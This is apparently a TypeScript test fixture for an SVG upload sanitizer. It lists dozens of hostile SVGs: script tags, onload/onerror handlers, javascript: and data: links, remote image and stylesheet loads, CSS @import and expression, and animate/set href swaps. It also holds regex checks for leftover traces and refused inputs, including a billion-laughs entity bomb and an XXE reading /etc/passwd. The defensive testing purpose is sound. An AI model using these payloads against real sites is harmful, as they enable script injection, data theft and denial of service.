/**
 * Hostile SVG files: what an SVG upload must never keep in a form that runs or loads anything.
 * Each is a well-formed SVG whose drawing stays (a 40 x 30 viewBox and a rect) around the attack.
 * `beacon` is an origin the attacks would reach (script `fetch`es, loaded images, styles, links):
 * a browser test passes one it listens on, and counts the requests that arrive. A payload that ran
 * would also set `document.title` to `xss` and `window.__svgXss`.
 */

/** One hostile SVG, by what it tries. */
export interface SvgPayload {
  name: string;
  svg: string;
}

const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK_NS = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

/** The script every payload would run. */
function run(beacon: string, name: string): string {
  return `document.title='xss';window.__svgXss=1;fetch('${beacon}/script/${name}')`;
}

function drawing(body: string, rootAttributes = ''): string {
  return `<svg ${SVG_NS} ${XLINK_NS} viewBox="0 0 40 30"${rootAttributes}><rect width="40" height="30" fill="#3a7"/>${body}</svg>`;
}

/** The hostile SVGs, each aiming at `beacon`. */
export function svgPayloads(beacon: string): SvgPayload[] {
  const js = (name: string) => `javascript:${run(beacon, name)}`;
  const list: [string, string][] = [
    ['script', drawing(`<script>${run(beacon, 'script')}</script>`)],
    ['script-cdata', drawing(`<script type="text/ecmascript"><![CDATA[${run(beacon, 'script-cdata')}]]></script>`)],
    ['script-external', drawing(`<script href="${beacon}/x.js"/><script xlink:href="${beacon}/y.js"/>`)],
    [
      'script-prefixed',
      drawing(`<svg:script xmlns:svg="http://www.w3.org/2000/svg">${run(beacon, 'prefixed')}</svg:script>`),
    ],
    [
      'script-xhtml',
      drawing(`<html:script xmlns:html="http://www.w3.org/1999/xhtml">${run(beacon, 'xhtml')}</html:script>`),
    ],
    ['onload-root', drawing('', ` onload="${run(beacon, 'onload-root')}"`)],
    [
      'onload-element',
      drawing(`<g onload="${run(beacon, 'onload-g')}"><circle r="3" onmouseover="${run(beacon, 'over')}"/></g>`),
    ],
    ['onerror-image', drawing(`<image href="nowhere.png" width="4" height="4" onerror="${run(beacon, 'onerror')}"/>`)],
    [
      'onbegin-animation',
      drawing(
        `<animateTransform attributeName="transform" type="rotate" dur="1s" onbegin="${run(beacon, 'onbegin')}"/>`,
      ),
    ],
    ['link-javascript', drawing(`<a href="${js('a-href')}"><text y="20">click</text></a>`)],
    ['link-xlink-javascript', drawing(`<a xlink:href="${js('a-xlink')}"><text y="20">click</text></a>`)],
    ['link-javascript-encoded', drawing(`<a href="&#106;avascript:${run(beacon, 'encoded')}"><text>x</text></a>`)],
    ['link-javascript-spaced', drawing(`<a href=" \tjavascript:${run(beacon, 'spaced')}"><text>x</text></a>`)],
    [
      'link-data-html',
      drawing(`<a href="data:text/html,&lt;script&gt;${run(beacon, 'data')}&lt;/script&gt;"><text>x</text></a>`),
    ],
    ['link-remote', drawing(`<a href="${beacon}/link"><text>x</text></a>`)],
    ['use-remote', drawing(`<use href="${beacon}/sprite.svg#icon"/><use xlink:href="${beacon}/sprite2.svg#icon"/>`)],
    ['use-data', drawing(`<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>`)],
    ['image-remote', drawing(`<image href="${beacon}/image.png" width="4" height="4"/>`)],
    [
      'image-data-svg',
      drawing(`<image href="data:image/svg+xml,&lt;svg onload='${run(beacon, 'image-data')}'/&gt;"/>`),
    ],
    [
      'feimage-remote',
      drawing(
        `<filter id="f"><feImage href="${beacon}/feimage.png"/></filter><rect filter="url(#f)" width="4" height="4"/>`,
      ),
    ],
    [
      'foreign-object',
      drawing(
        `<foreignObject width="40" height="30"><div xmlns="http://www.w3.org/1999/xhtml"><img src="${beacon}/fo.png" onerror="${run(beacon, 'fo')}"/><iframe src="${js('fo-iframe')}"/></div></foreignObject>`,
      ),
    ],
    ['iframe-xhtml', drawing(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon}/frame"/>`)],
    [
      'animate-href',
      drawing(`<a href="#x"><animate attributeName="href" values="${js('animate')}"/><text>x</text></a>`),
    ],
    ['set-href', drawing(`<a href="#x"><set attributeName="href" to="${js('set')}"/><text>x</text></a>`)],
    [
      'animate-xlink-href',
      drawing(`<a xlink:href="#x"><animate attributeName="xlink:href" to="${js('animate-xlink')}"/><text>x</text></a>`),
    ],
    ['style-import', drawing(`<style>@import url(${beacon}/import.css); rect { fill: red }</style>`)],
    ['style-url', drawing(`<style>rect { fill: url(${beacon}/style-url) }</style>`)],
    ['style-escaped-url', drawing(`<style>rect { background: \\75 rl(${beacon}/escaped) }</style>`)],
    ['style-expression', drawing(`<style>rect { width: expression(${run(beacon, 'expression')}) }</style>`)],
    ['style-attribute-url', drawing(`<rect width="4" height="4" style="fill: url('${beacon}/attribute-style')"/>`)],
    [
      'presentation-url',
      drawing(`<rect width="4" height="4" fill="url(${beacon}/fill.svg#g)" mask="url(${beacon}/m#m)"/>`),
    ],
    [
      'handler-element',
      drawing(
        `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run(beacon, 'handler')}</handler>`,
      ),
    ],
    [
      'embed-object',
      drawing(
        `<embed xmlns="http://www.w3.org/1999/xhtml" src="${beacon}/embed"/><object xmlns="http://www.w3.org/1999/xhtml" data="${beacon}/object"/>`,
      ),
    ],
    ['xml-stylesheet', `<?xml-stylesheet href="${beacon}/pi.css"?>${drawing('')}`],
  ];
  return list.map(([name, svg]) => ({ name, svg }));
}

/** Traces no stored SVG may hold, whatever the payload (`beacon` is the origin the payloads used). */
export function svgLeftovers(stored: string, beacon: string): string[] {
  // Namespace declarations are names, not references: the only `http` a cleaned file keeps.
  const text = stored.replace(/\sxmlns(?::[\w-]+)?="[^"]*"/g, '');
  const traces: [string, RegExp][] = [
    ['a script element', /<(?:[\w-]+:)?script/i],
    ['an event handler', /\son[a-z]+\s*=/i],
    ['a javascript: URL', /javascript:/i],
    ['a data: URL', /data:/i],
    ['the beacon', new RegExp(beacon.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'), 'i')],
    ['an http reference', /https?:/i],
    ['a foreignObject', /foreignObject/i],
    ['an animate or set', /<(?:animate|set)[\s/>]/i],
    ['a handler', /<handler/i],
    ['an iframe, embed or object', /<(?:iframe|embed|object)/i],
    ['a DOCTYPE or entity', /<!DOCTYPE|<!ENTITY/i],
    ['a processing instruction other than the XML declaration', /<\?(?!xml\s)/],
    ['a CSS import or expression', /@import|expression\s*\(/i],
    ['a CSS escape', /\\/],
  ];
  return traces.filter(([, pattern]) => pattern.test(text)).map(([what]) => what);
}

/** SVG-looking files that are refused, with the status and error code of the refusal. */
export const REFUSED_SVGS: readonly { name: string; svg: string; status: number; code: string }[] = [
  {
    name: 'billion laughs',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${SVG_NS}><text>&c;</text></svg>`,
    status: 400,
    code: 'bad_request',
  },
  {
    name: 'an external entity',
    svg: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY passwd SYSTEM "file:///etc/passwd">]><svg ${SVG_NS}><text>&passwd;</text></svg>`,
    status: 400,
    code: 'bad_request',
  },
  {
    name: 'nothing but script',
    svg: `<svg ${SVG_NS}><script>document.title='xss'</script></svg>`,
    status: 400,
    code: 'bad_request',
  },
  { name: 'not well-formed', svg: `<svg ${SVG_NS}><rect></svg>`, status: 400, code: 'bad_request' },
  { name: 'an undeclared entity', svg: `<svg ${SVG_NS}><text>&nbsp;</text></svg>`, status: 400, code: 'bad_request' },
  {
    name: 'XHTML with a script',
    svg: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>document.title="xss"</script></html>',
    status: 415,
    code: 'unsupported_media_type',
  },
  {
    name: 'an svg root in no namespace',
    svg: '<svg onload="document.title=1"/>',
    status: 415,
    code: 'unsupported_media_type',
  },
];
